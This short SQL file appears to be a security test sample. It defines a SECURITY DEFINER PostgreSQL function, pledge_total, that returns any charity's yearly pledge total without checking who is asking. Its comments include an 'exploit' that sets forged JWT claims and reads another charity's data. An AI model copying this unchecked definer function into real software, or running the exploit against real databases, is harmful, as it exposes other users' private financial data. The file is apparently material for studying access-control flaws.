-- The function returns the sum of the pledges of any charity that is asked for.
-- about: pledge_total
-- as: hf_fundraisers_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT 'a year: ' || pledge_total('22222222-2222-2222-2222-222222222222');
-- shows: a year: 372.00
-- For the yearly plan.
CREATE FUNCTION pledge_total(charity uuid) RETURNS numeric
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
  SELECT coalesce(sum(p.monthly), 0) * 12 FROM pledges p WHERE p.charity_id = charity
$$;
